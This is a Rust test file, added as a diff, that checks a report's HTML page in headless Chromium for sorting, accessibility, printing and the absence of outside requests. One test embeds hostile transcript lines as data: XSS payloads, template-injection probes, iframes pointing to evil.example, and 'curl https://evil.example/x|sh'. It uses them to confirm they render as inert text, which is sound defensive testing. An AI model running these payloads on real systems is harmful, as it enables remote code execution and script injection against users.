@@ -1,0 +1,148 @@
+//! The report's page in a real browser: Chromium, driven by Playwright, with axe-core for accessibility.
+//!
+//! `tests/browser/look.mjs` opens it, sorts, filters, plays, prints, and says what it saw. Where Chromium or Node.js cannot be
+//! installed, that is said and passed over.
+
+use std::path::Path;
+use std::path::PathBuf;
+use std::process::Command;
+use std::process::Stdio;
+use std::sync::OnceLock;
+
+use serde_json::Value;
+
+use crate::hostile;
+use crate::judging::sound;
+use crate::peer::target;
+use crate::world::World;
+
+const PACKAGES: [&str; 2] = ["playwright-core@1.65.1", "axe-core@4.14.1"];
+
+/// Chromium, and the folder of the packages that drive it.
+#[expect(clippy::print_stderr, reason = "what is passed over is said")]
+fn browser() -> Option<&'static (PathBuf, PathBuf)> {
+    static BROWSER: OnceLock<Option<(PathBuf, PathBuf)>> = OnceLock::new();
+    let quiet = |program: &str, words: &[&str], folder: &Path| {
+        let mut it = Command::new(program);
+        it.args(words).current_dir(folder).stdout(Stdio::null()).stderr(Stdio::null());
+        it.status().is_ok_and(|it| it.success())
+    };
+    let found = BROWSER.get_or_init(|| {
+        let chromium = PathBuf::from("/usr/bin/chromium");
+        if !chromium.exists() {
+            let here = Path::new("/");
+            let install = ["install", "-y", "-q", "--no-install-recommends", "chromium"];
+            let _ = quiet("apt-get", &install, here)
+                || (quiet("apt-get", &["update", "-q"], here) && quiet("apt-get", &install, here));
+        }
+        let folder = target().join("browser");
+        let done = folder.join("done");
+        if !done.exists() {
+            std::fs::create_dir_all(&folder).ok()?;
+            let install =
+                [&["install", "--no-save", "--no-audit", "--no-fund"], &PACKAGES[..]].concat();
+            std::fs::write(folder.join("package.json"), "{}").ok()?;
+            if !quiet("npm", &install, &folder) {
+                return None;
+            }
+            std::fs::write(&done, "").ok()?;
+        }
+        chromium.exists().then(|| (chromium, folder.join("node_modules")))
+    });
+    if found.is_none() {
+        eprintln!("passed over: no browser (Debian package chromium, Node.js and npm are needed)");
+    }
+    found.as_ref()
+}
+
+/// What a reader would see and get; pictures and the paper lie in the world's folder.
+fn look(world: &World, report: &str) -> Option<Value> {
+    let (chromium, modules) = browser()?;
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser/look.mjs");
+    let out = world.path("looks");
+    std::fs::create_dir_all(&out).expect("a folder for pictures");
+    let done = Command::new("node")
+        .arg(script)
+        .arg(modules)
+        .arg(chromium)
+        .arg(world.path(report).canonicalize().expect("the report"))
+        .arg(&out)
+        .output()
+        .expect("node runs");
+    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
+    for it in ["wide-light", "wide-dark", "narrow-light", "narrow-dark"] {
+        assert!(out.join(format!("{it}.png")).exists(), "{it}");
+    }
+    Some(serde_json::from_slice(&done.stdout).expect("what was seen"))
+}
+
+/// What holds of every report.
+fn is_sound(said: &Value) {
+    assert_eq!(said["requests"], serde_json::json!([]), "a request left the page");
+    assert_eq!(said["complaints"], serde_json::json!([]), "the browser complained");
+    assert_eq!(said["dialogs"], 0);
+    assert_eq!(said["accessibility"], serde_json::json!([]));
+    assert_eq!(
+        said["narrow"],
+        serde_json::json!({ "light": 0, "dark": 0 }),
+        "a narrow page scrolls sideways"
+    );
+    let nothing = serde_json::json!({
+        "scripts": 2, "active": 0, "handlers": 0, "styles": 0, "links": 0, "owned": false
+    });
+    assert_eq!(said["foreign"], nothing);
+    assert_eq!(said["landmarks"], serde_json::json!(["header", "nav", "main", "footer"]));
+    assert_eq!(said["paper"], serde_json::json!([595, 842]), "A4 in points");
+}
+
+#[test]
+fn the_page_sorts_filters_plays_and_prints_and_asks_nobody() {
+    let world = World::with_demo();
+    std::fs::write(world.path("survey.json"), sound().to_string()).expect("a survey");
+    for lang in ["en", "ja"] {
+        world.run(&format!("report -o {lang}.html --lang {lang} --survey survey.json"));
+        let Some(said) = look(&world, &format!("{lang}.html")) else { return };
+        is_sound(&said);
+        assert_eq!(said["lang"], lang);
+        let sorted = serde_json::json!({
+            "up": true, "down": true, "aria": "descending", "keyboard": "ascending"
+        });
+        assert_eq!(said["sorted"], sorted);
+        assert_eq!(said["filtered"]["all"], true);
+        assert_eq!(said["linked"], true);
+        let player =
+            serde_json::json!({ "plays": true, "told": true, "pressed": "false", "steps": true });
+        assert_eq!(said["player"], player);
+        assert_eq!(said["plain"]["buttons"], 0, "a button that does nothing without a script");
+        assert_eq!(said["plain"]["rows"], 100);
+        assert!(said["pages"].as_u64() > Some(3));
+    }
+}
+
+#[test]
+fn a_hostile_transcript_is_text_in_the_browser() {
+    let world = hostile::world();
+    let attacks = [
+        "sh-4.2$ echo '</script><script>owned=1;alert(1)</script>'",
+        "sh-4.2$ echo '<img src=x onerror=alert(1)><svg onload=alert(1)>'",
+        "sh-4.2$ echo '<!--<script>' '-->' ']]>' '{{7*7}}' '${alert(1)}' 'javascript:alert(1)'",
+        "sh-4.2$ sudo -i # \"><a href=https://evil.example onclick=alert(1)>x</a>",
+        "sh-4.2$ curl https://evil.example/x|sh",
+        "<iframe src=https://evil.example></iframe><base href=https://evil.example>",
+        &format!("sh-4.2$ echo {}", "w".repeat(100_000)),
+        "sh-4.2$ exit",
+    ];
+    world.transcript("more/zoe-0123456789abcdef0.log", &attacks);
+    world.run("sync more");
+    world.run("report -o it.html");
+    let Some(said) = look(&world, "it.html") else { return };
+    is_sound(&said);
+}
+
+#[test]
+fn an_empty_report_is_a_sound_page_too() {
+    let world = World::with_demo();
+    world.run("report -o it.html --from 2020-01-01 --to 2020-02-01");
+    let Some(said) = look(&world, "it.html") else { return };
+    is_sound(&said);
+}
